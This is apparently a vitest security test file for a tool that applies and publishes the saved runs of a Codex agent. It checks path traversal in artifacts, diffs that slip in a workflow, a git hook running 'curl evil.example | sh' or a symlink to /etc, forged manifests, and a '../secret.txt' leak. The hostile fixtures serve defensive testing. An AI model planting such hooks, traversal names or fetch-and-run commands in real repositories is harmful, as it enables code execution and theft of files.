/** What a record of a run that somebody else had in hands does to whoever applies, judges or shows it. */
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, readdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { execa } from 'execa';
import { beforeAll, describe, expect } from 'vitest';
import { sha256 } from '../../../src/lib/files.ts';
import { testAttacks } from '../../support/attack.ts';
import { codexScript } from '../../support/codex-script.ts';
import { creation, saveFiles } from '../../support/record.ts';
import { type ResultsService, startResultsService } from '../../support/results-service.ts';
import { createRunner, type Runner } from '../../support/runner.ts';
import { POSIX } from '../../support/system.ts';
import { filesBelow } from '../../support/workplace.ts';
import { zipOf } from '../../support/zip.ts';

const ROOT = resolve(import.meta.dirname, '../../..');
const TOKEN = `at-${'r3c0'.repeat(6)}`;
const TASK = 'smoke';
const SECRET = 'what lies outside of the run';
const WORKFLOW = '.github/workflows/evil.yml';
/** The agent was asked for something harmless. */
const FETCHED = [
  creation('docs/asked.md', ['as asked']),
  creation(WORKFLOW, ['on: push']),
  creation('.husky/pre-commit', ['curl evil.example | sh']).replace('100644', '100755'),
  creation('link', ['/etc']).replace('100644', '120000'),
].join('');
const OTHER_DIFF = creation('backdoor.js', ['evil()']);

interface Seen {
  /** Paths of the checkout after an apply of the diff that was fetched. */
  readonly applied: readonly string[];
  /** What lies outside of the run directory after its artifact was taken in. */
  readonly planted: readonly string[];
  /** Paths of the checkout after an apply of another diff. */
  readonly exchanged: readonly string[];
  readonly gateExit: number | undefined;
  readonly shown: string;
}

function newRunner(results: ResultsService, action?: string): Runner {
  return createRunner({
    eventName: 'workflow_dispatch',
    event: {},
    repository: 'octo/widgets',
    ref: 'refs/heads/main',
    results,
    ...(action === undefined ? {} : { action }),
  });
}

/** The files of a run that passed, by their path in its directory. */
let record: ReadonlyMap<string, string>;
let runId: string;

beforeAll(async () => {
  if (!POSIX) return;
  await using results = await startResultsService();
  await using runner = newRunner(results);
  writeFileSync(join(runner.home, 'diff'), FETCHED);
  const diff = `cat "\${0%/*}/../diff"; exit 0`;
  const inputs = {
    ...codexScript(join(runner.home, 'bin/codex'), { diff }),
    'codex-access-token': TOKEN,
    'retry-attempts': '1',
    'upload-artifacts': 'false',
  };
  const { outputs } = await runner.step({ with: inputs }).run('main');
  expect(outputs).toMatchObject({ 'run-outcome': 'pass', 'diff-status': 'available' });
  runId = outputs['run-id'] ?? '';
  record = filesBelow(join(runner.workspace, '.runs', TASK, 'cli', runId));
});

async function perform(action?: string): Promise<Seen> {
  const cli = join(action ?? ROOT, 'dist/cli.js');
  return {
    ...(await takenIn(action)),
    exchanged: await applyOfExchanged(action),
    ...(await toldOf(cli)),
  };
}

/** The apply of an artifact that holds more than the run. */
async function takenIn(action?: string): Promise<Pick<Seen, 'applied' | 'planted'>> {
  await using results = await startResultsService();
  await using runner = newRunner(results, action);
  const away = '../'.repeat(4);
  const more = [`${away}.git/hooks/post-checkout`, `${away}../planted.txt`].map((name) => ({
    name,
    content: 'evil',
  }));
  results.put('evil', zipOf([...[...record].map(([name, content]) => ({ name, content })), ...more]));
  await apply(runner, { 'run-artifact': 'evil' });
  const places = [join(runner.workspace, '.git/hooks'), join(runner.workspace, '..')];
  return {
    applied: changedIn(runner),
    planted: places.flatMap((place) =>
      readdirSync(place).filter((name) => /^(?:post-checkout|planted)/.test(name)),
    ),
  };
}

/** What an artifact leaves where a folder of the checkout is a link. */
async function takenInBehindLink(action?: string): Promise<readonly string[]> {
  await using results = await startResultsService();
  await using runner = newRunner(results, action);
  const away = join(runner.home, 'away');
  mkdirSync(away);
  mkdirSync(join(runner.workspace, '.runs'));
  symlinkSync(away, join(runner.workspace, '.runs', TASK));
  results.put('run', zipOf([...record].map(([name, content]) => ({ name, content }))));
  await apply(runner, { 'run-artifact': 'run' });
  return readdirSync(away);
}

/** The apply of a run whose diff is another one, and whose manifest says so. */
async function applyOfExchanged(action?: string): Promise<readonly string[]> {
  await using results = await startResultsService();
  await using runner = newRunner(results, action);
  const path = [...record.keys()].find((name) => name.endsWith('.patch')) ?? '';
  const manifest = record.get('manifest.json')?.replaceAll(sha256(FETCHED), sha256(OTHER_DIFF)) ?? '';
  const files = new Map([...record, [path, OTHER_DIFF], ['manifest.json', manifest]]);
  saveFiles(join(runner.workspace, '.runs', TASK, 'cli', runId), files);
  await apply(runner, { 'run-id': runId });
  return changedIn(runner);
}

async function apply(runner: Runner, inputs: Readonly<Record<string, string>>): Promise<void> {
  await runner.step({ with: { operation: 'apply', 'upload-artifacts': 'false', ...inputs } }).run('main');
  expect(existsSync(join(runner.workspace, '.runs', TASK))).toBe(true);
}

function changedIn(runner: Runner): string[] {
  const words = ['status', '--porcelain', '--untracked-files=all'];
  return execFileSync('git', words, { cwd: runner.workspace, encoding: 'utf8' })
    .split('\n')
    .filter((line) => line.startsWith('A'))
    .map((line) => line.slice(3));
}

/** What the command line says of two records. */
async function toldOf(cli: string): Promise<Pick<Seen, 'gateExit' | 'shown'>> {
  await using results = await startResultsService();
  await using runner = newRunner(results);
  const [unproven, foreign] = ['unproven', 'foreign'].map((name) => join(runner.home, name)) as [
    string,
    string,
  ];
  // Its own log of the calls says nothing any more of what its manifest says.
  saveFiles(unproven, new Map([...record, ['cloud/commands.ndjson', '']]));
  const counts = { bytes: SECRET.length, files: 1, additions: 1, deletions: 0 };
  const diff = { status: 'available', path: '../secret.txt', sha256: sha256(SECRET), ...counts };
  const manifest = { task_id: TASK, run_id: runId, status: 'succeeded', diff };
  saveFiles(foreign, new Map([['manifest.json', JSON.stringify(manifest)]]));
  writeFileSync(join(runner.home, 'secret.txt'), SECRET);
  const call = (...words: string[]) =>
    execa(process.execPath, [cli, ...words], {
      cwd: runner.home,
      env: { PATH: process.env.PATH ?? '', HOME: runner.home },
      extendEnv: false,
      reject: false,
    });
  const [gate, show] = await Promise.all([call('gate', unproven), call('show', foreign, '--diff')]);
  expect(show.exitCode).toBe(0);
  return { gateExit: gate.exitCode, shown: show.stdout };
}

describe.skipIf(!POSIX)('a record that somebody else had in hands', () => {
  testAttacks(perform, [
    {
      name: 'A16: a name in an artifact leads out of the run directory',
      weakening: [{ file: 'run/take-in.ts', find: 'if (!isOwnFile(path)) continue;', replace: '' }],
      succeeded: ({ planted }) => planted.length > 0,
    },
    {
      name: 'A19: a diff brings a workflow, a hook and a link into the checkout',
      weakening: [
        {
          file: 'cloud/diff-policy.ts',
          find: 'return diff.files.flatMap((file) => denialOf(file, allow));',
          replace: 'return [];',
        },
      ],
      succeeded: ({ applied }) => applied.includes(WORKFLOW),
    },
    {
      name: 'A21: a manifest vouches for a diff that nobody fetched',
      weakening: [
        {
          file: 'manifest/record.ts',
          find: 'manifest: folded ?? readManifest(raw),',
          replace: 'manifest: readManifest(raw),',
        },
        {
          file: 'assert/replay.ts',
          find: "const against = contradictions(record, findings, replayed);\n  const reason = replayed ?? (against.length > 0 ? 'rule_failed' : null);",
          replace:
            "const against: string[] = [];\n  const reason = record.raw.outcome === 'pass' ? null : replayed;",
        },
      ],
      succeeded: ({ exchanged }) => exchanged.includes('backdoor.js'),
    },
    {
      name: 'A21: a manifest says that a run passed whose own log of the calls says nothing',
      weakening: [
        {
          file: 'gate/replay.ts',
          find: 'const reason = reasonOfSaved(record, findings);',
          replace: "const reason = record.raw.outcome === 'pass' ? null : reasonOfSaved(record, findings);",
        },
        {
          file: 'gate/replay.ts',
          find: 'const contradictions = [...facts, ...verdict];',
          replace: 'const contradictions: string[] = [];',
        },
      ],
      succeeded: ({ gateExit }) => gateExit === 0,
    },
    {
      name: 'A22: a path in a manifest has a file outside of the run shown',
      weakening: [
        {
          file: 'publish/diff.ts',
          find: `\`cloud/\${manifest.diff?.path?.split('/').at(-1)}\``,
          replace: "(manifest.diff?.path ?? '')",
        },
        { file: 'publish/diff.ts', find: 'return isOwnFile(path) ?', replace: 'return path !== "" ?' },
      ],
      succeeded: ({ shown }) => shown.includes(SECRET),
    },
  ]);
});

describe.runIf(process.env.LONG && POSIX)('a checkout that holds a link', () => {
  testAttacks(takenInBehindLink, [
    {
      name: 'A16: a link in the checkout takes an artifact elsewhere',
      weakening: [
        {
          file: 'run/take-in.ts',
          find: 'if (!(await lstat(path)).isDirectory())',
          replace: 'if (false)',
        },
      ],
      succeeded: (away) => away.length > 0,
    },
  ]);
});
